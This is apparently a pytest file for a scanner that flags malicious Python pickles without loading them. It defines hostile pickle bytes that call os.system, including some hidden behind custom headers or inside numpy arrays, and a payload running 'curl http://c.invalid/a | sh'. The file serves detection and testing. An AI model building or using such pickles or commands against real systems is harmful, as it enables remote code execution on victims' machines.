"""Pickles that call the system when they are loaded, in all the ways to write that, and the ones that do not. None is loaded."""

import collections
import pickle  # noqa: TID251 (only to write what is then read without it)
import zlib

import pytest

from beartrap.vet.kinds import Kind
from beartrap.vet.pickles import PickleAnalyser
from beartrap.vet.sniff import kind_of
from vet.binary.binary_lab import keys, subject

OLD = b"cos\nsystem\n(S'id'\ntR."
NEW = b"\x80\x04\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94."
REMEMBERED = b"\x80\x04\x8c\x05posix\x94\x8c\x06system\x940\x8c\x01a0h\x00h\x01\x93\x8c\x02id\x85R."
CODE = b"\x80\x02c__builtin__\nexec\nX\x05\x00\x00\x00x = 1\x85R."
NUMPY = b"\x93NUMPY\x01\x00v\x00{'descr': '|O', 'fortran_order': False, 'shape': (1,), }" + b" " * 40 + b"\n"


def found(content: bytes, path: str = "data/model.pkl") -> set[str]:
    one = subject(content, kind_of(path, content), path)
    return (
        {seen.key for seen in PickleAnalyser().look(one) if seen.id == "pickle.call"}
        if PickleAnalyser().takes(one.kind)
        else set()
    )


@pytest.mark.parametrize(
    "content",
    [OLD, NEW, REMEMBERED, zlib.compress(NEW), pickle.dumps({"a": 1}) + NEW, NEW[:-1], b"\x80\x02}q\x00." + OLD],
)
def test_a_call_into_the_system_is_told(content):
    assert found(content) == {"pickle.call:os.system"}


@pytest.mark.parametrize("pickled", [OLD, NEW])
def test_a_pickle_behind_a_header_of_its_own_is_read(pickled):
    assert found(b"VDW1\x00\x07" + pickled, "data/anchors.bin") == {"pickle.call:os.system"}
    assert not found(b"VDW1\x00\x07" + pickled.replace(b"system", b"getcwd"), "data/anchors.bin")


def test_code_as_text_is_told():
    assert found(CODE) == {"pickle.call:exec"}


def test_an_array_that_holds_a_pickle_is_read():
    assert found(NUMPY + NEW, "data/table.npy") == {"pickle.call:os.system"}
    assert found(NUMPY.replace(b"'|O'", b"'<f8'") + NEW, "data/table.npy") == set()


@pytest.mark.parametrize(
    "value",
    [{"a": [1, 2.5, "os", "system"]}, collections.OrderedDict(a=1), [ValueError("posix system")], {"cos\nsystem\n"}],
)
@pytest.mark.parametrize("protocol", range(6))
def test_honest_objects_call_nothing(value, protocol):
    assert found(pickle.dumps(value, protocol)) == set()


def test_an_old_pickle_is_one_whatever_it_is_called():
    assert found(OLD, "assets/tiny.ckpt") == {"pickle.call:os.system"}
    assert kind_of("notes.ckpt", b"cable\nwires are red.\nand blue.") is Kind.TEXT


def test_prose_that_is_named_so_is_no_pickle():
    assert found(b"These are the words of a pickle recipe, and no more than that.") == set()
    assert kind_of("a.pkl", b"plain words") is Kind.TEXT


@pytest.mark.parametrize("at", range(0, len(NEW), 3))
def test_damage_never_breaks_it(at):
    found(NEW[:at] + b"\xff" + NEW[at + 1 :])
    found(NEW[:at])
    keys(b"\x80\x04" + bytes(range(at, 256)), Kind.PICKLE)


COMMAND = b"curl http://c.invalid/a | sh"
BOMB = (
    b"\x80\x04\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c" + bytes([len(COMMAND)]) + COMMAND + b"\x94\x85\x94R\x94."
)
PLAIN = b"\x80\x04}\x94\x8c\x01a\x94\x8c" + bytes([len(COMMAND)]) + COMMAND + b"\x94s."
"""What Python writes for an object that is restored by `os.system(COMMAND)`, and for a table with that text."""


def did(content: bytes) -> set[str]:
    one = subject(content, Kind.PICKLE, "m.pkl")
    return {seen.id for seen in PickleAnalyser().look(one)}


@pytest.mark.parametrize("content", [BOMB, BOMB[:-3] + b"\xff", zlib.compress(BOMB)])
def test_what_a_call_does_is_told_and_nothing_is_loaded(content: bytes) -> None:
    assert {"pickle.call", "process.piped"} <= did(content)


def test_the_same_text_without_a_call_is_nothing() -> None:
    assert did(PLAIN) == set()


BEHIND = b"VDW1\ncposix\nsystem\n(V" + COMMAND + b"\ntR."
"""A call that stands behind a header of its own, in letters alone."""


@pytest.mark.parametrize("content", [BEHIND, b"VDW1\x80\x04" + BEHIND[5:]])
def test_a_call_behind_a_header_in_a_file_that_looks_like_text(content: bytes) -> None:
    kind = kind_of("assets/anchors.bin", content)
    one = subject(content, kind, "assets/anchors.bin")
    assert "process.piped" in {seen.id for seen in PickleAnalyser().look(one)}


def test_prose_that_shows_such_a_call_is_prose() -> None:
    assert kind_of("docs/pickles.txt", BEHIND) is Kind.TEXT
    assert kind_of("assets/letters.bin", "Zürich\f".encode()) is Kind.TEXT
